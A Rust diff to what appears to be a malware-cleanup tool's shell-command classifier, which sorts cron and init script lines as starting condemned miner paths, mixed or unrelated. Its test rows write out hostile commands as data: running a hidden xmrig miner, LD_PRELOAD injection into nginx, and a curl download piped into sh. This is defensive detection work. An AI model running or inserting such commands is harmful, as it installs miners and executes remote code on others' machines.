@@ -2,9 +2,10 @@
 
 use std::collections::{BTreeMap, BTreeSet};
 
-use deminer_worker::text::HostPath;
+use deminer_worker::text::{HostBytes, HostPath};
 
 use crate::command_words::{SimpleCommand, simple_commands_at};
+use crate::known_programs::SETTING;
 
 /// What a text does with condemned paths, weakest first.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -19,7 +20,7 @@ pub(super) enum Speech {
 
 /// What all commands of a text come to.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub(super) enum Tenor {
+pub(crate) enum Tenor {
     /// None of them starts a condemned path.
     Unrelated,
     /// Some do, others serve another purpose or are not told.
@@ -29,7 +30,7 @@ pub(super) enum Tenor {
 }
 
 /// Programs that have no effect of their own beside a condemned one.
-const INERT: [&[u8]; 15] = [
+const INERT: [&[u8]; 23] = [
     b"cd",
     b"pushd",
     b"popd",
@@ -45,6 +46,21 @@ const INERT: [&[u8]; 15] = [
     b"wait",
     b"break",
     b"continue",
+    b"echo",
+    b"printf",
+    b"return",
+    b"export",
+    b"set",
+    b"unset",
+    b"umask",
+    b"shift",
+];
+/// Functions for init scripts; to read them does nothing.
+const FUNCTIONS: [&[u8]; 4] = [
+    b"/lib/lsb/init-functions",
+    b"/etc/init.d/functions",
+    b"/etc/rc.d/init.d/functions",
+    b"/etc/rc.status",
 ];
 /// Programs that look for or end processes by name; inert where they name a condemned one.
 const SEEKERS: [&[u8]; 7] = [b"pgrep", b"pkill", b"killall", b"pidof", b"ps", b"grep", b"egrep"];
@@ -155,6 +171,17 @@ fn started(command: &SimpleCommand, condemned: &BTreeSet<HostPath>) -> Option<Ho
     command.files().find(|file| condemned.contains(file))
 }
 
+/// Whether what a command runs is condemned itself, not only something that it loads or goes through on the way to another
+/// purpose: `LD_PRELOAD=/bad /usr/sbin/good` is both.
+fn is_wholly_bad(command: &SimpleCommand, condemned: &BTreeSet<HostPath>) -> bool {
+    let is_bad = |file: &HostBytes| condemned.contains(&HostPath::new(file.as_bytes()));
+    let name = command.program.as_bytes();
+    if name.is_empty() || SETTING.contains(&name) {
+        return !command.loads.is_empty() && command.loads.iter().all(is_bad);
+    }
+    is_bad(&command.program) || command.script.as_ref().is_some_and(is_bad)
+}
+
 /// The condemned path that a command puts in its place: a copy to it, or a download to it.
 fn placed(command: &SimpleCommand, condemned: &BTreeSet<HostPath>) -> Option<HostPath> {
     let name = base(command.program.as_bytes());
@@ -220,7 +247,7 @@ fn feeds_shell(commands: &[SimpleCommand], at: usize) -> bool {
 }
 
 /// Whether a text pipes a download into a shell.
-pub(super) fn pipes_a_download(text: &[u8]) -> bool {
+pub(crate) fn pipes_a_download(text: &[u8]) -> bool {
     let commands = commands_of(text, None);
     (0..commands.len()).any(|at| feeds_shell(&commands, at))
 }
@@ -230,8 +257,14 @@ fn is_inert(command: &SimpleCommand, condemned: &BTreeSet<HostPath>) -> bool {
         return false;
     }
     let name = base(command.program.as_bytes());
-    if INERT.contains(&name) || name.is_empty() {
-        return true;
+    if matches!(name, b"." | b"source") {
+        return command
+            .script
+            .as_ref()
+            .is_some_and(|file| FUNCTIONS.contains(&file.as_bytes()));
+    }
+    if INERT.contains(&name) || name.is_empty() || name.starts_with(b"log_") && name.ends_with(b"_msg") {
+        return command.loads.is_empty();
     }
     let paths = || {
         command
@@ -276,16 +309,16 @@ fn writes_elsewhere(text: &[u8], condemned: &BTreeSet<HostPath>) -> bool {
 
 /// What all commands of a text come to; a text of which something is not told is never condemned whole. `cwd` is where it
 /// runs, and what `~` is.
-pub(super) fn tenor(text: &[u8], cwd: Option<&HostPath>, condemned: &BTreeSet<HostPath>) -> Tenor {
+pub(crate) fn tenor(text: &[u8], cwd: Option<&HostPath>, condemned: &BTreeSet<HostPath>) -> Tenor {
     let commands = commands_of(text, cwd);
     let mut bad: Option<HostPath> = None;
     let mut inert = false;
     let mut other = false;
-    for (at, command) in commands.iter().enumerate() {
+    for (at, command) in commands.iter().enumerate().filter(|(_, command)| !command.is_data) {
         match started(command, condemned) {
             Some(path) => {
                 bad.get_or_insert(path);
-                other |= command.untold;
+                other |= command.untold || !is_wholly_bad(command, condemned);
             }
             None if feeds_shell(&commands, at) => {}
             None if is_inert(command, condemned) => inert = true,
@@ -365,7 +398,7 @@ mod tests {
 
     #[test]
     fn lines() {
-        let rows: [(&str, &str); 31] = [
+        let rows: [(&str, &str); 38] = [
             ("/tmp/.x/xmrig", "condemned"),
             ("/tmp/.x/xmrig >/dev/null 2>&1", "condemned"),
             ("nohup /tmp/.x/xmrig -o h:1 &", "condemned"),
@@ -402,6 +435,13 @@ mod tests {
             ("/usr/local/bin/backup.sh # /tmp/.x/xmrig", "unrelated"),
             ("curl -fsS 203.0.113.80/i | sh", "unrelated"),
             ("/tmp/.x/xmrig2", "unrelated"),
+            ("LD_PRELOAD=/tmp/.x/xmrig /usr/sbin/nginx", "mixed"),
+            ("LD_PRELOAD=/srv/a.so:/tmp/.x/xmrig", "mixed"),
+            ("export LD_PRELOAD=/tmp/.x/xmrig", "condemned"),
+            ("export LD_PRELOAD=/tmp/.x/xmrig PATH=$PATH", "condemned"),
+            ("cat > /srv/a <<E\n/tmp/.x/xmrig\nE", "unrelated"),
+            ("cat > /srv/a <<E; /tmp/.x/xmrig\nE", "mixed"),
+            ("sh <<E\n/tmp/.x/xmrig\nE", "mixed"),
             ("", "unrelated"),
         ];
         for (line, expected) in rows {
